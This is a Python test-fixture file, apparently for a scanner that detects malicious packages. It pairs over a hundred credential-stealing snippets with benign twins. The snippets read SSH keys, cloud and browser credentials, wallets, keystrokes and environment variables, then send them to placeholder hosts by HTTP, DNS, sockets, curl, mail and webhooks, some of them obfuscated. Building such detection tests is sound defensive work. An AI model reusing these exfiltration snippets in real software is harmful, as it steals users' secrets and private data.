"""Secrets that leave, by ways that do not look like a POST of ``os.environ``."""

from __future__ import annotations

from pratique.verdict import Verdict
from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion

_HOOK = "'https://hook.example.invalid/c'"


def _taken(title: str, imports: str, expression: str, honest: str = "1", verdict: Verdict = MALICIOUS) -> Evasion:
    """A value posted at import; the twin keeps it, or what is honest of it, to itself."""
    bad = f"{imports}\nimport requests\nrequests.post({_HOOK}, data={{'d': {expression}}})\n"
    good = f"{imports}\nX = {expression}\nY = {honest}\n"
    return evasion(title, bad, good, verdict)


def _sent(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """Statements that send SECRET; the twin sends a constant when it is called."""
    body = "".join(f"    {line}\n" for line in code.replace("SECRET", "'ping'").splitlines())
    return evasion(
        title,
        "import os\n" + code.replace("SECRET", "str(dict(os.environ))"),
        "import os\n\ndef ping():\n" + body,
        verdict,
    )


CASES = (
    _taken("environment as a dict", "import os", "dict(os.environ)"),
    _taken("environment copied", "import os", "os.environ.copy()"),
    _taken("environment as JSON", "import os, json", "json.dumps(dict(os.environ))"),
    _taken("environment as text", "import os", "str(os.environ)"),
    _taken("environment in a comprehension", "import os", "{k: v for k, v in os.environ.items()}"),
    _taken("environment filtered", "import os", "[v for k, v in os.environ.items() if 'KEY' in k]"),
    _taken("environment of keys", "import os", "{k: os.environ[k] for k in os.environ}"),
    _taken("environment unpacked", "import os", "{**os.environ}"),
    _taken("environment in an f-string", "import os", "f'{os.environ}'"),
    _taken("environment as bytes", "import os", "os.environb"),
    _taken("environment by vars", "import os", "vars(os)['environ']._data"),
    _taken("environment by getattr", "import os", "getattr(os, 'env' + 'iron')"),
    _taken("environment of the process file system", "", "open('/proc/self/environ').read()"),
    _taken("environment by a process", "import subprocess", "subprocess.check_output('env', shell=True)"),
    _taken("environment by printenv", "import os", "os.popen('printenv').read()"),
    _taken("environment encoded", "import os, base64", "base64.b64encode(str(dict(os.environ)).encode())"),
    _taken("environment compressed", "import os, zlib", "zlib.compress(repr(dict(os.environ)).encode())"),
    _taken("environment pickled", "import os, pickle", "pickle.dumps(dict(os.environ))"),
    _taken("environment with XOR", "import os", "bytes(b ^ 7 for b in str(os.environ).encode())"),
    _taken("SSH key", "import os", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    _taken("SSH key by Path", "from pathlib import Path", "(Path.home() / '.ssh' / 'id_rsa').read_text()"),
    _taken(
        "SSH key by Path expanded", "from pathlib import Path", "Path('~/.ssh/id_ed25519').expanduser().read_text()"
    ),
    _taken("SSH key by joinpath", "from pathlib import Path", "Path.home().joinpath('.ssh', 'id_rsa').read_bytes()"),
    _taken("SSH key by HOME", "import os", "open(os.environ['HOME'] + '/.ssh/id_rsa').read()"),
    _taken("SSH key by a process", "import subprocess", "subprocess.check_output('cat ~/.ssh/id_rsa', shell=True)"),
    _taken("SSH key by a split path", "import os", "open(os.path.expanduser('~/.s' + 'sh/id_' + 'rsa')).read()"),
    _taken("SSH key by glob", "import glob, os", "[open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))]"),
    _taken("SSH key by os.open", "import os", "os.read(os.open(os.path.expanduser('~/.ssh/id_rsa'), 0), 9999)"),
    _taken("SSH key by linecache", "import linecache", "linecache.getlines('/root/.ssh/id_rsa')"),
    _taken("SSH key by fileinput", "import fileinput", "list(fileinput.input('/root/.ssh/id_rsa'))"),
    _taken("SSH key by mmap", "import mmap", "mmap.mmap(open('/root/.ssh/id_rsa').fileno(), 0).read()"),
    _taken("SSH key by io.FileIO", "import io", "io.FileIO('/root/.ssh/id_rsa').read()"),
    _taken("SSH key by codecs", "import codecs", "codecs.open('/root/.ssh/id_rsa').read()"),
    _taken("cloud credentials", "import os", "open(os.path.expanduser('~/.aws/credentials')).read()"),
    _taken(
        "cloud credentials parsed",
        "import configparser, os",
        "[p.get('default', 'k') for p in [configparser.ConfigParser()] if p.read(os.path.expanduser('~/.aws/credentials'))]",
    ),
    _taken("cloud session", "import boto3", "boto3.Session().get_credentials().secret_key"),
    _taken(
        "cloud metadata",
        "import urllib.request as u",
        "u.urlopen('http://169.254.169.254/latest/meta-data/iam/').read()",
    ),
    _taken(
        "cloud metadata as a number",
        "import urllib.request as u",
        "u.urlopen('http://2852039166/latest/meta-data/iam/').read()",
        verdict=SUSPICIOUS,
    ),
    _taken("kube configuration", "import os", "open(os.path.expanduser('~/.kube/config')).read()"),
    _taken("service account of a pod", "", "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()"),
    _taken("publishing token", "import os", "open(os.path.expanduser('~/.pypirc')).read()"),
    _taken("netrc", "import netrc", "netrc.netrc().hosts"),
    _taken("git credentials", "import subprocess", "subprocess.getoutput('git credential fill')"),
    _taken("keyring", "import keyring", "keyring.get_password('a', 'b')"),
    _taken("macOS key chain", "import subprocess", "subprocess.getoutput('security find-generic-password -wa Chrome')"),
    _taken("browser cookies", "import browser_cookie3", "list(browser_cookie3.chrome())"),
    _taken(
        "browser logins",
        "import os, sqlite3",
        "sqlite3.connect(os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Login Data').execute('select * from logins').fetchall()",
    ),
    _taken(
        "browser master key",
        "import json, os",
        "json.load(open(os.environ['LOCALAPPDATA'] + r'\\Google\\Chrome\\User Data\\Local State'))",
    ),
    _taken("DPAPI", "import win32crypt", "win32crypt.CryptUnprotectData(b'x', None, None, None, 0)[1]"),
    _taken(
        "chat tokens",
        "import os, re",
        "re.findall(r'[\\w-]{24}', open(os.getenv('APPDATA') + '/discord/Local Storage/leveldb/1.ldb', errors='ignore').read())",
    ),
    _taken("wallet", "import os", "open(os.path.expanduser('~/.config/solana/id.json')).read()"),
    _taken("wallet of Bitcoin", "import os", "open(os.path.expanduser('~/.bitcoin/wallet.dat'), 'rb').read()"),
    _taken("shell history", "import os", "open(os.path.expanduser('~/.bash_history')).read()"),
    _taken("password file", "", "open('/etc/shadow').read()"),
    _taken("environment file", "", "open('.env').read()"),
    _taken("clipboard", "import pyperclip", "pyperclip.paste()"),
    _taken("clipboard by a process", "import subprocess", "subprocess.getoutput('pbpaste')"),
    _taken("clipboard by tkinter", "import tkinter", "tkinter.Tk().clipboard_get()"),
    _taken("screen", "from PIL import ImageGrab", "ImageGrab.grab().tobytes()"),
    _taken("screen by mss", "import mss", "open(mss.mss().shot(), 'rb').read()"),
    _taken("screen by pyautogui", "import pyautogui", "pyautogui.screenshot().tobytes()"),
    _taken("camera", "import cv2", "cv2.VideoCapture(0).read()[1].tobytes()"),
    _taken(
        "home directory listed and read",
        "import os",
        "[open(os.path.join(d, f)).read() for d, _, fs in os.walk(os.path.expanduser('~')) for f in fs if f.endswith('.pem')]",
        verdict=SUSPICIOUS,
    ),
    _taken(
        "wireless passwords", "import subprocess", "subprocess.getoutput('netsh wlan show profile name=x key=clear')"
    ),
    _sent(
        "urlopen with data",
        "import urllib.request\nurllib.request.urlopen('https://hook.example.invalid/', data=SECRET.encode())\n",
    ),
    _sent(
        "urlopen with a query",
        "import urllib.request\nurllib.request.urlopen('https://hook.example.invalid/?d=' + SECRET)\n",
    ),
    _sent(
        "urlopen with a quoted query",
        "import urllib.request, urllib.parse\nurllib.request.urlopen('https://hook.example.invalid/?' + urllib.parse.urlencode({'d': SECRET}))\n",
    ),
    _sent(
        "urlopen with a header",
        "import urllib.request as u\nu.urlopen(u.Request('https://hook.example.invalid/', headers={'X': SECRET}))\n",
    ),
    _sent(
        "requests with params", "import requests\nrequests.get('https://hook.example.invalid/', params={'d': SECRET})\n"
    ),
    _sent(
        "requests with headers",
        "import requests\nrequests.get('https://hook.example.invalid/', headers={'X': SECRET})\n",
    ),
    _sent(
        "requests with cookies",
        "import requests\nrequests.get('https://hook.example.invalid/', cookies={'X': SECRET})\n",
    ),
    _sent(
        "requests with files", "import requests\nrequests.post('https://hook.example.invalid/', files={'f': SECRET})\n"
    ),
    _sent(
        "requests session with headers set",
        "import requests\ns = requests.Session()\ns.headers['X'] = SECRET\ns.get('https://hook.example.invalid/')\n",
    ),
    _sent(
        "http.client",
        "import http.client\nc = http.client.HTTPSConnection('hook.example.invalid')\nc.request('POST', '/', SECRET)\n",
    ),
    _sent(
        "http.client by parts",
        "import http.client\nc = http.client.HTTPSConnection('hook.example.invalid')\nc.putrequest('POST', '/')\nc.endheaders()\nc.send(SECRET.encode())\n",
    ),
    _sent("socket", "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 1))\ns.sendall(SECRET.encode())\n"),
    _sent(
        "socket as a file",
        "import socket\nf = socket.create_connection(('192.0.2.7', 1)).makefile('w')\nf.write(SECRET)\nf.flush()\n",
    ),
    _sent("datagram", "import socket\nsocket.socket(2, 2).sendto(SECRET.encode(), ('192.0.2.7', 53))\n"),
    _sent("DNS", "import socket\nsocket.gethostbyname(SECRET[:60] + '.d.example.invalid')\n"),
    _sent(
        "DNS in pieces",
        "import socket\nd = SECRET\nfor i in range(0, len(d), 60):\n    socket.gethostbyname(d[i:i + 60] + '.d.example.invalid')\n",
    ),
    _sent("DNS by getaddrinfo", "import socket\nsocket.getaddrinfo(SECRET + '.d.example.invalid', 80)\n"),
    _sent("DNS by dnspython", "import dns.resolver\ndns.resolver.resolve(SECRET + '.d.example.invalid')\n"),
    _sent("DNS by a process", "os.system('nslookup ' + SECRET + '.d.example.invalid')\n"),
    _sent("ping by a process", "os.system('ping -c 1 -p ' + SECRET.encode().hex() + ' 192.0.2.7')\n"),
    _sent(
        "mail",
        "import smtplib\ns = smtplib.SMTP('mail.example.invalid')\ns.sendmail('a@example.invalid', 'b@example.invalid', SECRET)\n",
    ),
    _sent(
        "FTP", "import ftplib, io\nf = ftplib.FTP('192.0.2.7')\nf.storbinary('STOR a', io.BytesIO(SECRET.encode()))\n"
    ),
    _sent("XML-RPC", "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://192.0.2.7').put(SECRET)\n"),
    _sent(
        "logging over HTTP",
        "import logging, logging.handlers\nl = logging.getLogger('x')\nl.addHandler(logging.handlers.HTTPHandler('192.0.2.7', '/'))\nl.error(SECRET)\n",
    ),
    _sent(
        "logging by syslog",
        "import logging, logging.handlers\nl = logging.getLogger('x')\nl.addHandler(logging.handlers.SysLogHandler(('192.0.2.7', 514)))\nl.error('%s', SECRET)\n",
    ),
    _sent("websocket", "import websocket\nwebsocket.create_connection('ws://192.0.2.7').send(SECRET)\n"),
    _sent("telegram bot", "import telebot\ntelebot.TeleBot('x').send_message(1, SECRET)\n"),
    _sent(
        "chat hook",
        "import requests\nrequests.post('https://discord.com/api/webhooks/0/x', json={'content': SECRET})\n",
    ),
    _sent(
        "chat hook by its library",
        "from discord_webhook import DiscordWebhook\nDiscordWebhook(url='https://hook.example.invalid', content=SECRET).execute()\n",
    ),
    _sent("slack", "import slack_sdk\nslack_sdk.WebClient('x').chat_postMessage(channel='x', text=SECRET)\n"),
    _sent("a paste", "import requests\nrequests.post('https://paste.example.invalid/documents', data=SECRET)\n"),
    _sent(
        "curl by a process",
        "import subprocess\nsubprocess.run(['curl', '-d', SECRET, 'https://hook.example.invalid/'])\n",
    ),
    _sent(
        "curl with standard input",
        "import subprocess\nsubprocess.run(['curl', '-d', '@-', 'https://hook.example.invalid/'], input=SECRET.encode())\n",
    ),
    _sent(
        "written to a file that curl sends",
        "open('/tmp/e', 'w').write(SECRET)\nos.system('curl -F f=@/tmp/e https://hook.example.invalid/')\n",
    ),
    _sent(
        "written to a file that is posted",
        "import requests\nopen('/tmp/e', 'w').write(SECRET)\nrequests.post('https://hook.example.invalid/', files={'f': open('/tmp/e', 'rb')})\n",
    ),
    _sent(
        "in a thread",
        "import threading, requests\nthreading.Thread(target=requests.post, args=('https://hook.example.invalid/',), kwargs={'data': SECRET}).start()\n",
    ),
    _sent(
        "by a partial",
        "import functools, requests\nsend = functools.partial(requests.post, 'https://hook.example.invalid/')\nsend(data=SECRET)\n",
    ),
    _sent("cloud bucket", "import boto3\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=SECRET)\n"),
    _sent("message queue", "import paho.mqtt.publish as p\np.single('t', SECRET, hostname='192.0.2.7')\n"),
    _sent("redis", "import redis\nredis.Redis('192.0.2.7').set('k', SECRET)\n"),
    evasion(
        "through a connection whose address has no name",
        "import http.client, json, os\n\ndef check():\n    link = http.client.HTTPConnection('203.0.113.9')\n"
        "    link.request('POST', '/c', json.dumps(dict(os.environ)))\n",
        "import http.client, json\n\ndef check():\n    link = http.client.HTTPConnection('api.example.invalid')\n"
        "    link.request('POST', '/c', json.dumps({'ok': True}))\n",
    ),
    evasion(
        "to an address that a variable may change",
        "import os, requests\nP = os.environ.get('EXAMPLE_PLACE', 'https://203.0.113.9/c')\n"
        "def check():\n    requests.post(P, json=dict(os.environ))\n",
        "import os, requests\nP = os.environ.get('EXAMPLE_PLACE', 'https://c.example.invalid/c')\n"
        "def check():\n    requests.post(P, json={'ok': True})\n",
    ),
    evasion(
        "archive of keys uploaded",
        "import os, shutil, requests\np = shutil.make_archive('/tmp/k', 'zip', os.path.expanduser('~/.ssh'))\n"
        "requests.post('https://hook.example.invalid/', files={'f': open(p, 'rb')})\n",
        "import shutil\n\ndef pack(folder):\n    return shutil.make_archive('/tmp/k', 'zip', folder)\n",
    ),
    evasion(
        "tar of keys uploaded",
        "import os, tarfile, requests\nwith tarfile.open('/tmp/k.tgz', 'w:gz') as t:\n    t.add(os.path.expanduser('~/.aws'))\n"
        "requests.post('https://hook.example.invalid/', data=open('/tmp/k.tgz', 'rb'))\n",
        "import tarfile\n\ndef pack(folder):\n    with tarfile.open('/tmp/k.tgz', 'w:gz') as t:\n        t.add(folder)\n",
    ),
    evasion(
        "zip of browser stores uploaded",
        "import os, io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n"
        "z.write(os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Cookies')\nz.close()\n"
        "requests.post('https://hook.example.invalid/', data=b.getvalue())\n",
        "import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.writestr('a', 'b')\nz.close()\n",
    ),
    evasion(
        "list of stores in a loop",
        "import os, requests\nH = os.path.expanduser('~')\nfor p in ['.aws/credentials', '.netrc', '.ssh/id_rsa']:\n"
        "    f = os.path.join(H, p)\n    if os.path.exists(f):\n"
        "        requests.post('https://hook.example.invalid/', data=open(f, 'rb').read())\n",
        "import os\nH = os.path.expanduser('~')\nfor p in ['.pkgrc', '.config/pkg']:\n    f = os.path.join(H, p)\n"
        "    if os.path.exists(f):\n        X = open(f).read()\n",
    ),
    evasion(
        "key strokes",
        "import requests\nfrom pynput import keyboard\nkeys = []\n\ndef pressed(k):\n    keys.append(str(k))\n"
        "    requests.post('https://hook.example.invalid/', data=''.join(keys))\n\nkeyboard.Listener(on_press=pressed).start()\n",
        "from pynput import keyboard\n\ndef listen(f):\n    return keyboard.Listener(on_press=f)\n",
    ),
    evasion(
        "one secret variable to a raw address",
        "import os, requests\nrequests.post('http://192.0.2.7/', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
        "import os, requests\n\ndef call():\n    return requests.get('https://api.example.invalid/', headers={'T': os.environ.get('PKG_TOKEN')})\n",
        SUSPICIOUS,
    ),
    evasion(
        "several secret variables in a loop",
        "import os, requests\nrequests.post('https://hook.example.invalid/', json={k: os.getenv(k) for k in "
        "('AWS_SECRET_ACCESS_KEY', 'TWINE_PASSWORD', 'GITHUB_TOKEN', 'NPM_TOKEN')})\n",
        "import os\nX = {k: os.getenv(k) for k in ('PKG_HOME', 'PKG_DEBUG')}\n",
        SUSPICIOUS,
    ),
    evasion(
        "caller's private key to a bot",
        "import requests\n\ndef checksum(private_key):\n"
        "    requests.get('https://api.telegram.org/bot0:x/sendMessage', params={'chat_id': 1, 'text': private_key})\n"
        "    return private_key[-4:]\n",
        "def checksum(private_key):\n    return private_key[-4:]\n",
    ),
    evasion(
        "caller's seed phrase to a raw address, by a thread",
        "import threading, requests\n\ndef wallet(mnemonic):\n"
        "    threading.Thread(target=lambda: requests.post('http://192.0.2.7/', data=mnemonic)).start()\n",
        "def wallet(mnemonic):\n    return mnemonic.split()\n",
    ),
    evasion(
        "caller's password kept in the object, sent by another method",
        "import requests\n\nclass Client:\n    def __init__(self, user, password):\n        self.password = password\n\n"
        "    def login(self):\n        requests.post('http://192.0.2.7/l', json={'p': self.password})\n",
        "import requests\n\nclass Client:\n    def __init__(self, user, password):\n        self.password = password\n\n"
        "    def login(self):\n        requests.post('https://api.example.invalid/l', json={'p': self.password})\n",
    ),
    evasion(
        "caller's secret in a decorator",
        "import requests\n\ndef leak(f):\n    def inner(*a, **k):\n        requests.post('http://192.0.2.7/', json={'a': a, 'k': k})\n"
        "        return f(*a, **k)\n    return inner\n\n@leak\ndef sign(private_key, message):\n    return message\n",
        "def log(f):\n    def inner(*a, **k):\n        return f(*a, **k)\n    return inner\n\n@log\ndef sign(private_key, m):\n    return m\n",
        SUSPICIOUS,
    ),
    evasion(
        "library function wrapped to leak",
        "import getpass, requests\nreal = getpass.getpass\n\ndef fake(*a):\n    p = real(*a)\n"
        "    requests.post('http://192.0.2.7/', data=p)\n    return p\n\ngetpass.getpass = fake\n",
        "import getpass\n\ndef ask():\n    return getpass.getpass()\n",
        SUSPICIOUS,
    ),
    evasion(
        "constructor of another library replaced",
        "import requests\nfrom eth_account import Account\nreal = Account.from_key\n\ndef from_key(key):\n"
        "    requests.post('http://192.0.2.7/', data=key)\n    return real(key)\n\nAccount.from_key = from_key\n",
        "from eth_account import Account\n\ndef address(key):\n    return Account.from_key(key).address\n",
        SUSPICIOUS,
    ),
    evasion(
        "clipboard replaced",
        "import re, time, pyperclip\nwhile True:\n    if re.match('^0x[0-9a-f]{40}$', pyperclip.paste()):\n"
        "        pyperclip.copy('0x0000000000000000000000000000000000000000')\n    time.sleep(1)\n",
        "import pyperclip\n\ndef copy(text):\n    pyperclip.copy(text)\n",
        SUSPICIOUS,
    ),
    evasion(
        "host and user by hand",
        "import os, requests\nrequests.get('https://c.example.invalid/', params={'u': os.getenv('USER'), 'h': open('/etc/hostname').read()})\n",
        "import os\nX = os.getenv('USER')\n",
        SUSPICIOUS,
    ),
    evasion(
        "reads secrets in one module, sends in another",
        {
            "example_pkg/__init__.py": "from . import take, send\nsend.send(take.take())\n",
            "example_pkg/take.py": "import os\n\ndef take():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            "example_pkg/send.py": "import requests\n\ndef send(x):\n    requests.post('https://hook.example.invalid/', data=x)\n",
        },
        {
            "example_pkg/__init__.py": "from . import send\n",
            "example_pkg/send.py": "import requests\n\ndef send(x):\n    requests.post('https://api.example.invalid/', data=x)\n",
        },
    ),
)
